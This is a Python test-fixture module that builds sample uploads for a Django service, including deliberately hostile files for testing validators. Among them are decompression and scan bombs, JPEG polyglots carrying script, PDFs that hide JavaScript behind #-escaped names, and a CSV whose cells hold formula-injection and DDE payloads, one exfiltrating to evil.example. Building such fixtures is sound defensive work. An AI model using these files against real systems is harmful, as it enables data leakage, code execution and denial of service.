"""Sample files for tests, made on the fly: real photos, PDFs, CSVs and bad inputs."""

import io
import os
import random
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageDraw


def photo_bytes(width=1200, height=800, fmt="JPEG", seed=1, exif_gps=False, orientation=None, noise_seed=None) -> bytes:
    """A photo-like image: a gradient with shapes and a little noise (so it compresses like a photo).
    The noise is new on every call (each photo its own file), or fixed by `noise_seed` (the same image
    every run, for a test whose outcome depends on the pixels, such as a perceptual-hash distance)."""
    image = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    draw = ImageDraw.Draw(image)
    for i in range(12):
        x, y = (seed * 97 + i * 131) % width, (seed * 53 + i * 71) % height
        draw.ellipse([x, y, x + width // 6, y + height // 6], fill=((seed * 40 + i * 20) % 255, 120, (i * 30) % 255))
    pixels = random.Random(noise_seed).randbytes(width * height) if noise_seed is not None else os.urandom(width * height)
    noise = Image.frombytes("L", (width, height), pixels).convert("RGB")
    image = Image.blend(image, noise, 0.08)
    buffer = io.BytesIO()
    kwargs = {}
    if (exif_gps or orientation) and fmt == "JPEG":
        exif = Image.Exif()
        if exif_gps:
            exif[0x8825] = {1: "N", 2: (31.0, 14.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0)}
            exif[0x010F] = "PhoneMaker"  # camera make
        if orientation:
            exif[0x0112] = orientation
        kwargs["exif"] = exif
    image.save(buffer, fmt, quality=88, **kwargs) if fmt in ("JPEG", "WEBP") else image.save(buffer, fmt)
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def jpeg(name="photo.jpg", **kwargs) -> SimpleUploadedFile:
    return upload(name, photo_bytes(**kwargs), "image/jpeg")


def pdf_document(objects: list[bytes]) -> bytes:
    """A well-formed PDF of the given objects (numbered from 1; object 1 is the catalogue)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def pdf_bytes() -> bytes:
    """A minimal, well-formed one-page PDF."""
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def noise_png_bytes(megabytes: float) -> bytes:
    """A PNG of random pixels, uncompressed: its size is about `megabytes`."""
    side = int((megabytes * 1024 * 1024 / 3) ** 0.5)
    image = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
    buffer = io.BytesIO()
    image.save(buffer, "PNG", compress_level=0)
    return buffer.getvalue()


def large_canvas_png_bytes(width: int, height: int) -> bytes:
    """A real, small PNG with many pixels (one colour compresses to almost nothing)."""
    buffer = io.BytesIO()
    Image.new("1", (width, height)).save(buffer, "PNG", optimize=True)
    return buffer.getvalue()


def png_bomb_bytes(width=100_000, height=100_000) -> bytes:
    """A PNG whose header claims a huge size (a decompression bomb): only the header is forged."""
    buffer = io.BytesIO()
    Image.new("L", (8, 8)).save(buffer, "PNG")
    data = bytearray(buffer.getvalue())
    ihdr_start = 8 + 8  # signature, then length + "IHDR"
    data[ihdr_start : ihdr_start + 8] = struct.pack(">II", width, height)
    crc = zlib.crc32(bytes(data[12 : ihdr_start + 13])) & 0xFFFFFFFF
    data[ihdr_start + 13 : ihdr_start + 17] = struct.pack(">I", crc)
    return bytes(data)


def elf_executable_bytes() -> bytes:
    """The start of a Linux executable: what a renamed program looks like to a content sniffer."""
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
    return header + os.urandom(4096)


def truncated_jpeg_bytes() -> bytes:
    data = photo_bytes(400, 300)
    return data[: len(data) // 3]


def polyglot_jpeg_html_bytes() -> bytes:
    """A valid JPEG with an HTML page appended: a browser sniffing it could run the script."""
    return photo_bytes(300, 200) + b"<html><body><script>alert(document.cookie)</script></body></html>"


def polyglot_jpeg_zip_bytes() -> bytes:
    """A valid JPEG with a ZIP archive appended (it opens as either)."""
    import zipfile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.html", "<script>alert(1)</script>")
    return photo_bytes(300, 200) + archive.getvalue()


def pdf_with_javascript_bytes(obfuscated: bool = False) -> bytes:
    """A PDF that runs JavaScript when opened. Obfuscated: the name is written with a #-escape, so
    only a structural parse (not a byte search) sees it."""
    name = b"/J#61vaScript" if obfuscated else b"/JavaScript"
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            b"<< /Type /Action /S " + name + b" /" + (b"J#53" if obfuscated else b"JS") + b" (app.alert(1)) >>",
        ]
    )


def many_rows_records_csv_bytes(rows: int = 130_000, kind: str = "device") -> bytes:
    """A records CSV of `rows` short valid rows (130,000 login-device rows fit under the 2 MB limit)."""
    if kind == "recharge":
        header, row = b"order_number,amount,currency,paid_at\n", b"A,1,CNY,2026-10-01\n"
    else:
        header, row = b"seen_at,device_model\n", b"2026-10-01,A\n"
    return header + row * rows


def png_with_corrupt_pixel_data_bytes(width=64, height=48) -> bytes:
    """A PNG whose chunks and checksums are intact but whose compressed pixels are garbage: it passes
    the upload checks and processing refuses it."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    pixels = zlib.compress(b"".join(b"\x00" + b"\x80" * (width * 3) for _row in range(height)))
    garbage = pixels[:2] + bytes(b ^ 0x5A for b in pixels[2:])
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", garbage) + chunk(b"IEND", b"")


# --- PDFs that carry scripts where a byte search does not look (every name #-escaped) -----------------

_PDF_JS = b"/S /J#61vaScript /J#53 "  # /S /JavaScript /JS, written so that no byte search finds them


def _pdf_text_page(extra: bytes = b"") -> list[bytes]:
    """Page objects 3-5 of a one-page document with visible text (object 3 is the page)."""
    text = b"BT /F1 24 Tf 72 720 Td (Carrier certificate 2026) Tj ET"
    return [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R " + extra + b">>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def pdf_with_outline_javascript_bytes() -> bytes:
    """A PDF whose bookmark (outline item) runs JavaScript when clicked."""
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R /PageMode /UseOutlines >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            *_pdf_text_page(),
            b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
            b"<< /Title (Open me) /Parent 6 0 R /A << " + _PDF_JS + b"(app.alert('outline')) >> >>",
        ]
    )


def pdf_with_annotation_actions_bytes() -> bytes:
    """A PDF whose link annotation (and page) run JavaScript through additional actions (/AA)."""
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            *_pdf_text_page(b"/Annots [6 0 R] /AA << /O << " + _PDF_JS + b"(app.alert('page-open')) >> >> "),
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 400 750] /Border [0 0 0] "
            b"/AA << /E << " + _PDF_JS + b"(app.alert('annotation-enter')) >> >> >>",
        ]
    )


def pdf_with_open_action_chain_bytes() -> bytes:
    """A PDF whose open action is a harmless GoTo with JavaScript hidden in its /Next chain."""
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            *_pdf_text_page(),
            b"<< /S /GoTo /D [3 0 R /Fit] /Next [7 0 R] >>",
            b"<< " + _PDF_JS + b"(app.alert('next-chain')) >>",
        ]
    )


def pdf_with_pages_bytes(count: int) -> bytes:
    """A well-formed PDF of `count` blank A4 pages."""
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(count))
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
            *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>" for _ in range(count)],
        ]
    )


def unreadable_pdf_bytes() -> bytes:
    """Starts like a PDF, but no PDF reader can open it (no objects, no cross-reference table)."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"this was never a document " * 40 + b"\n%%EOF\n"


# --- Images carrying every kind of metadata block (each marked with its own "SECRET-…" text) --------


def _icc_profile_bytes() -> bytes:
    from PIL import ImageCms

    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _exif_with_maker_note() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "SECRET-EXIF-MAKE"  # camera make
    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0)}  # GPS
    exif.get_ifd(0x8769)[0x927C] = b"SECRET-MAKERNOTE"  # maker note, in the Exif sub-IFD
    return exif


def _xmp_packet() -> bytes:
    return (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        b'xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="SECRET-XMP"/></rdf:RDF>'
        b'</x:xmpmeta><?xpacket end="w"?>'
    )


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_with_all_metadata_bytes() -> bytes:
    """A JPEG photo with EXIF (GPS, maker note), XMP, IPTC (APP13), an ICC profile and a comment (COM)."""
    buffer = io.BytesIO()
    Image.open(io.BytesIO(photo_bytes(800, 600))).save(
        buffer,
        "JPEG",
        quality=88,
        exif=_exif_with_maker_note(),
        icc_profile=_icc_profile_bytes(),
    )
    data = buffer.getvalue()
    iptc = b"\x1c\x02\x78" + struct.pack(">H", 12) + b"SECRET-IPTC!"  # caption (2:120)
    segments = (
        _jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + _xmp_packet())
        + _jpeg_segment(0xED, b"Photoshop 3.0\x00" + b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(iptc)) + iptc)
        + _jpeg_segment(0xFE, b"SECRET-COMMENT")
    )
    return data[:2] + segments + data[2:]


def png_with_all_metadata_bytes() -> bytes:
    """A PNG with text chunks (tEXt, zTXt, iTXt with XMP), an eXIf chunk and an ICC profile (iCCP)."""
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "SECRET-PNG-TEXT")
    info.add_text("Author", "SECRET-PNG-ZTXT", zip=True)
    info.add_itxt("XML:com.adobe.xmp", _xmp_packet().decode())
    buffer = io.BytesIO()
    Image.open(io.BytesIO(photo_bytes(400, 300))).save(
        buffer,
        "PNG",
        pnginfo=info,
        exif=_exif_with_maker_note(),
        icc_profile=_icc_profile_bytes(),
    )
    return buffer.getvalue()


def webp_with_all_metadata_bytes() -> bytes:
    """A WebP with EXIF, XMP and ICCP chunks."""
    buffer = io.BytesIO()
    Image.open(io.BytesIO(photo_bytes(400, 300))).save(
        buffer,
        "WEBP",
        quality=85,
        exif=_exif_with_maker_note(),
        xmp=_xmp_packet(),
        icc_profile=_icc_profile_bytes(),
    )
    return buffer.getvalue()


def records_csv_with_formulas_bytes() -> bytes:
    """A recharge-records CSV whose cells a spreadsheet would run as formulas (or DDE commands)."""
    import csv

    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(["order_number", "amount", "currency", "paid_at", "product"])
    writer.writerow(["TX-F-1", "30.00", "CNY", "2026-10-01 12:30", '=HYPERLINK("http://evil.example/?d="&A1,"Refund")'])
    writer.writerow(["TX-F-2", "6", "CNY", "2026-10-02 09:00", "+cmd|' /C calc'!A0"])
    writer.writerow(["TX-F-3", "12", "CNY", "2026-10-03 10:00", "@SUM(1+1)*cmd|' /C calc'!A0"])
    writer.writerow(["TX-F-4", "8", "CNY", "2026-10-04 11:00", "-2+3+cmd|' /C calc'!A0"])
    return text.getvalue().encode()


# --- Progressive JPEGs built to stall a decoder --------------------------------------------------------


def _jpeg_segments(data: bytes) -> list[tuple[int, int, int]]:
    """(marker, start, end) of each segment of a JPEG from SOI to EOI; a scan ends where its data does."""
    segments, position = [], 2
    while position < len(data):
        marker = data[position + 1]
        if marker == 0xD9:
            segments.append((marker, position, position + 2))
            break
        end = position + 2 + struct.unpack(">H", data[position + 2 : position + 4])[0]
        if marker == 0xDA:
            while True:
                end = data.find(b"\xff", end)
                if data[end + 1] == 0x00 or 0xD0 <= data[end + 1] <= 0xD7:
                    end += 2
                    continue
                break
        segments.append((marker, position, end))
        position = end
    return segments


def progressive_jpeg_scan_bomb_bytes(scans: int = 1000, padding: int = 0) -> bytes:
    """A small 6000×6000 progressive JPEG whose last scan (with its Huffman table) is repeated `scans`
    times: every scan is decoded over the whole image, so it takes a worker many seconds. `padding`
    fill bytes (0xFF, allowed before any marker) between the copies make the decoder return to Python
    between them, as it does on a large real file."""
    buffer = io.BytesIO()
    Image.new("RGB", (6000, 6000), (128, 128, 128)).save(buffer, "JPEG", progressive=True, quality=80)
    data = buffer.getvalue()
    segments = _jpeg_segments(data)
    _marker, scan_start, scan_end = [s for s in segments if s[0] == 0xDA][-1]
    table = [s for s in segments if s[2] == scan_start and s[0] == 0xC4]
    repeated = b"\xff" * padding + data[table[0][1] if table else scan_start : scan_end]
    end_of_image = segments[-1][1]
    return data[:end_of_image] + repeated * scans + data[end_of_image:]


def jpeg_with_markup_in_scan_data_bytes() -> bytes:
    """A real photo whose compressed pixel data happens to hold "<svg" and "<body": compressed data is
    noise, and one large photo in a few hundred holds such bytes by chance."""
    data = bytearray(photo_bytes(800, 600, seed=7))
    sos = data.index(b"\xff\xda")
    start = sos + 2 + int.from_bytes(data[sos + 2 : sos + 4], "big")
    for needle, position in ((b"<svg", start + 2000), (b"<body", start + 9000)):
        while 0xFF in data[position - 1 : position + len(needle) + 1]:
            position += 7
        data[position : position + len(needle)] = needle
    return bytes(data)


def png_with_markup_pixels_bytes() -> bytes:
    """A valid PNG, stored uncompressed (filter 0, a stored deflate block), whose grey pixel values
    spell "<svg onload=alert(1)>"."""
    row = b"<svg onload=alert(1)>" * 8
    raw = b"".join(b"\x00" + row for _ in range(40))

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", len(row), 40, 8, 0, 0, 0, 0)  # 8-bit greyscale
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw, 0)) + chunk(b"IEND", b"")
